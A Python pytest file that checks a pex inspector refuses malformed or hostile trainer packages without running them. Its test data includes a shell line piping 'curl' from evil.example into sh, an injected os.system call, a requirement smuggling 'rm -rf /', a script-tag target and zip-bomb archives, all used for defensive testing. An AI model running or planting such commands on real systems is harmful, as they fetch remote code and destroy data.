"""Publishing checks a trainer pex without running it: its #! line, its zip, PEX-INFO and the stamped build info."""

import io
import json
import struct
import tracemalloc
import warnings
import zipfile
from pathlib import Path

import pytest

from railyard.binaries import inspect
from railyard.binaries.inspect import NotATrainer, build_info
from railyard.binaries.zip_member import MAX_MEMBER_BYTES
from tests.trainer_pex import COMMIT

SHEBANG = b"#!/usr/bin/env python3.11\n"
PEX_INFO = {"entry_point": "railyard.trainer:main", "inject_args": [], "inject_env": {}, "pex_path": "", "venv": True}
STAMP = {"git_commit": COMMIT, "git_dirty": False, "target": "//workflows:fraud_train",
         "requirements": ["numpy==2.4.6", "pandas==3.1.1"], "source": "stamped"}


def zip_bytes(members: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names, on purpose
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in members:
                archive.writestr(name, data)
    return buffer.getvalue()


def members(pex_info: dict | None = None, stamp: dict | None = None, **more: bytes | str) -> list[tuple[str, bytes | str]]:
    """The members of a real-looking trainer pex, with PEX-INFO keys and stamp keys replaced."""
    return [
        (".bootstrap/pex/__init__.py", "# pex\n"),
        ("__main__.py", "# Copyright 2014 Pex project contributors.\nimport sys\n"),
        ("PEX-INFO", json.dumps({**PEX_INFO, **(pex_info or {})})),
        ("railyard/__init__.py", ""),
        ("railyard/trainer.py", "def main():\n    return 0\n"),
        ("railyard/_build_info.json", json.dumps({**STAMP, **(stamp or {})})),
        *more.items(),
    ]


def pex(tmp_path, content: list | bytes | None = None, shebang: bytes = SHEBANG, **changes) -> str:
    path = tmp_path / "trainer.pex"
    body = content if isinstance(content, bytes) else zip_bytes(content or members(**changes))
    path.write_bytes(shebang + body)
    return str(path)


def refused(path: str) -> str:
    with pytest.raises(NotATrainer) as caught:
        build_info(path)
    message = str(caught.value)
    assert "\n" not in message
    return message


def test_a_real_looking_trainer_pex_is_accepted(tmp_path):
    info = build_info(pex(tmp_path))
    assert (info.name, info.target, info.git_commit, info.git_dirty) == ("fraud_train", "//workflows:fraud_train", COMMIT, False)
    assert info.requirements == ["numpy==2.4.6", "pandas==3.1.1"]


def test_the_small_trainer_pex_built_by_pex_is_accepted(small_pex):
    assert small_pex.read_bytes().startswith(SHEBANG)
    info = build_info(small_pex)
    assert (info.name, info.target, info.git_commit) == ("small_train", "//tests:small_train", COMMIT)


@pytest.mark.parametrize("shebang", [b"#!/usr/bin/env python3\n", b"#!/usr/bin/env python3.12\n", b"#!/usr/bin/python3\n",
                                     b"#!/opt/python-3.11/bin/python3.11\n"])
def test_shebangs_that_run_python3_are_accepted(tmp_path, shebang):
    assert build_info(pex(tmp_path, shebang=shebang)).name == "fraud_train"


@pytest.mark.parametrize("shebang", [b"", b"#!/bin/sh\necho owned\n", b"#!/usr/bin/env bash\n", b"#!/usr/bin/env python2\n",
                                     b"#!/usr/bin/env python3.11 -c\n", b"#!/usr/bin/env python3.11\r\n", b"#!python3\n",
                                     b"#!/usr/bin/python3x\n", b"#!/usr/bin/env  python3\n", b"#!/usr/bin/env python3" + b"1" * 300])
def test_a_first_line_that_does_not_run_python3_is_refused(tmp_path, shebang):
    message = refused(pex(tmp_path, shebang=shebang))
    assert message.startswith("its first line ")
    assert message.endswith(" is not a #! line that runs python3, such as #!/usr/bin/env python3.11")


def test_a_shell_script_with_a_pex_appended_is_refused(tmp_path):
    script = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\nexit 0\n"
    assert refused(pex(tmp_path, shebang=script)) == (
        "its first line b'#!/bin/sh\\n' is not a #! line that runs python3, such as #!/usr/bin/env python3.11")


def test_code_between_the_shebang_and_the_zip_is_refused(tmp_path):
    assert refused(pex(tmp_path, shebang=SHEBANG + b"import os; os.system('id')\n")) == "no zip follows its #! line"


def test_a_zip_behind_another_zip_is_refused(tmp_path):
    decoy = zip_bytes([("README", "nothing to see")])
    assert refused(pex(tmp_path, decoy + zip_bytes(members()))) == "its zip does not start right after its #! line"


def test_not_a_zip_is_refused(tmp_path):
    assert refused(pex(tmp_path, b"PK\x03\x04 and then nothing a zip needs")).startswith("not a pex (a zip file): ")


@pytest.mark.parametrize("missing", ["__main__.py", "PEX-INFO", "railyard/_build_info.json"])
def test_a_zip_without_a_pex_member_is_refused(tmp_path, missing):
    content = [(name, data) for name, data in members() if name != missing]
    assert refused(pex(tmp_path, content)) == f"it has no {missing}: build it with a railyard_trainer Bazel target"


@pytest.mark.parametrize("entry_point", ["railyard.trainer:os.system", "railyard.trainer", "railyard.trainer:main ",
                                         "os:system", "", None, ["railyard.trainer:main"]])
def test_any_other_entry_point_is_refused(tmp_path, entry_point):
    message = refused(pex(tmp_path, pex_info={"entry_point": entry_point}))
    assert message == f"its entry point is {entry_point!r}, not railyard.trainer:main"


@pytest.mark.parametrize("key, value", [("inject_python_args", ["-c", "import os"]), ("inject_args", ["--output", "/etc"]),
                                        ("inject_env", {"PYTHONPATH": "/tmp"}), ("pex_path", "/tmp/other.pex"),
                                        ("script", "sh")])
def test_pex_info_that_adds_to_the_entry_point_is_refused(tmp_path, key, value):
    message = refused(pex(tmp_path, pex_info={key: value}))
    assert message == f"its PEX-INFO sets {key} to {value!r}: a trainer pex runs its entry point and nothing else"


@pytest.mark.parametrize("target", ["//workflows:fraud_train", "//:t", "//a/b-c/d.e_f:x.y-z_1", "//a:" + "x" * 128])
def test_bazel_targets_are_accepted(tmp_path, target):
    assert build_info(pex(tmp_path, stamp={"target": target})).name == target.rpartition(":")[2]


@pytest.mark.parametrize("target", ["//a:b:c", "//a:<script>alert(1)</script>", "//a:b\n", "//a:b\nc", "//a\n:b", "a:b",
                                    "///a:b c", "//a:", "//a", "//a:" + "x" * 129, "//a:-x", "//a:.", "//a:b\u00e9", 42, None])
def test_anything_else_as_target_is_refused(tmp_path, target):
    message = refused(pex(tmp_path, stamp={"target": target}))
    assert message.startswith("its stamped target ")
    assert message.endswith(" is not a Bazel target such as //workflows:fraud_train")


@pytest.mark.parametrize("commit", [COMMIT, "unknown"])
def test_a_commit_or_unknown_is_accepted(tmp_path, commit):
    assert build_info(pex(tmp_path, stamp={"git_commit": commit})).git_commit == commit


@pytest.mark.parametrize("commit", ["abc123", COMMIT + "0", COMMIT[:-1] + "g", COMMIT.upper(), COMMIT + "\n", "unknown\n", "", None, 7])
def test_any_other_commit_is_refused(tmp_path, commit):
    assert refused(pex(tmp_path, stamp={"git_commit": commit})) == (
        f"its stamped git_commit {commit!r} is not 40 lowercase hex characters or 'unknown'")


@pytest.mark.parametrize("dirty", [1, 0, "false", []])
def test_git_dirty_must_be_true_false_or_null(tmp_path, dirty):
    assert refused(pex(tmp_path, stamp={"git_dirty": dirty})) == f"its stamped git_dirty {dirty!r} is not true, false or null"


def test_the_most_requirements_allowed_are_accepted(tmp_path):
    requirements = [f"p{i}==" + "1" * 400 for i in range(2_000)]
    requirements[0] = "x" * 512
    assert build_info(pex(tmp_path, stamp={"requirements": requirements})).requirements == requirements


@pytest.mark.parametrize("requirements", ["numpy", {"numpy": "1"}, ["x"] * 2_001, ["x" * 513], ["numpy", 1], ["numpy\nrm -rf /"]])
def test_other_requirements_are_refused(tmp_path, requirements):
    assert refused(pex(tmp_path, stamp={"requirements": requirements})) == (
        "its stamped requirements are not a list of at most 2000 printable strings of at most 512 characters each")


def test_too_many_entries_are_refused(tmp_path):
    content = members() + [(f"f/{i}", b"") for i in range(inspect.MAX_ENTRIES - len(members()) + 1)]
    assert refused(pex(tmp_path, content)) == "its zip has 100001 entries, more than 100000"


def test_the_most_entries_allowed_are_accepted(tmp_path):
    content = members() + [(f"f/{i}", b"") for i in range(inspect.MAX_ENTRIES - len(members()))]
    assert build_info(pex(tmp_path, content)).name == "fraud_train"


def test_entries_are_counted_even_where_the_end_record_understates_them(tmp_path, monkeypatch):
    monkeypatch.setattr(inspect, "MAX_ENTRIES", 10)
    body = bytearray(zip_bytes(members() + [(f"f/{i}", b"") for i in range(10)]))
    end = body.rindex(b"PK\x05\x06")
    body[end + 8:end + 12] = struct.pack("<HH", 3, 3)  # entries on this disk, entries in all
    assert refused(pex(tmp_path, bytes(body))) == "its zip has 16 entries, more than 10"


def test_a_zip_directory_too_large_to_read_is_refused(tmp_path, monkeypatch):
    body = zip_bytes(members())
    end = body.rindex(b"PK\x05\x06")
    [size] = struct.unpack("<I", body[end + 12:end + 16])
    monkeypatch.setattr(inspect, "MAX_DIRECTORY_BYTES", size - 1)
    assert refused(pex(tmp_path, body)) == f"its zip directory is {size} bytes, more than {size - 1}"


def test_an_absurd_uncompressed_total_is_refused(tmp_path):
    body = bytearray(zip_bytes(members(**{f"big/{i}": b"x" for i in range(3)})))
    for i in range(3):
        header = body.index(f"big/{i}".encode(), body.index(b"PK\x01\x02")) - 46
        assert body[header:header + 4] == b"PK\x01\x02"
        body[header + 24:header + 28] = struct.pack("<I", 0xF000_0000)  # uncompressed size, as declared
    message = refused(pex(tmp_path, bytes(body)))
    assert message.startswith("its members add up to 1")
    assert message.endswith(" bytes uncompressed, more than 8589934592 (8 GiB)")


def test_a_member_listed_twice_is_refused(tmp_path):
    content = members() + [("PEX-INFO", json.dumps({"entry_point": "os:system"}))]
    assert refused(pex(tmp_path, content)) == "its zip lists a member name more than once"


def inflating_pex(path: Path, inflated: int, declared: int | None = None, compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """A trainer pex whose PEX-INFO is `inflated` bytes of spaces, written in pieces (never held whole), and whose
    zip directory declares it `declared` bytes (default: the truth)."""
    with open(path, "wb") as out:
        out.write(SHEBANG)
        with zipfile.ZipFile(out, "w", compression) as archive:
            for name, data in members():
                if name != "PEX-INFO":
                    archive.writestr(name, data)
            with archive.open("PEX-INFO", "w") as member:
                block = b" " * 2**20
                for start in range(0, inflated, len(block)):
                    member.write(block[:inflated - start])
            if declared is not None:
                archive.getinfo("PEX-INFO").file_size = declared  # the central directory is written at close
    return path


TOO_LARGE = "its PEX-INFO inflates to more than 1048576 bytes (1 MiB), the most read of one member"


def test_a_member_of_the_most_bytes_allowed_is_read(tmp_path):
    text = json.dumps(PEX_INFO)[:-1] + ', "padding": ""}'
    content = members(pex_info={"padding": " " * (MAX_MEMBER_BYTES - len(text))})
    assert len(dict(content)["PEX-INFO"]) == MAX_MEMBER_BYTES
    assert build_info(pex(tmp_path, content)).name == "fraud_train"


@pytest.mark.parametrize("declared", [None, 100], ids=["declared", "declared-small"])
def test_a_member_over_the_cap_is_refused_naming_it_and_the_cap(tmp_path, declared):
    path = inflating_pex(tmp_path / "bomb.pex", MAX_MEMBER_BYTES + 1, declared)
    assert refused(str(path)) == TOO_LARGE


def test_a_member_that_lies_about_its_size_is_inflated_no_further_than_the_cap(tmp_path):
    path = inflating_pex(tmp_path / "bomb.pex", 64 * 2**20, declared=100)
    tracemalloc.start()
    try:
        assert refused(str(path)) == TOO_LARGE
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * 2**20, f"inflating PEX-INFO held {peak / 2**20:.0f} MiB"


def test_a_member_whose_bytes_differ_from_its_crc_is_refused(tmp_path):
    body = bytearray(zip_bytes(members()))
    header = body.index(b"PEX-INFO", body.index(b"PK\x01\x02")) - 46
    body[header + 16:header + 20] = struct.pack("<I", 0)  # CRC-32, as declared
    assert refused(pex(tmp_path, bytes(body))) == "its PEX-INFO does not match its CRC-32"


@pytest.mark.parametrize("compression", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_members_compressed_without_an_output_limit_are_refused(tmp_path, compression):
    path = inflating_pex(tmp_path / "bomb.pex", 1000, compression=compression)
    assert refused(str(path)) == f"its PEX-INFO is compressed with method {compression}; only stored and deflated members are read"
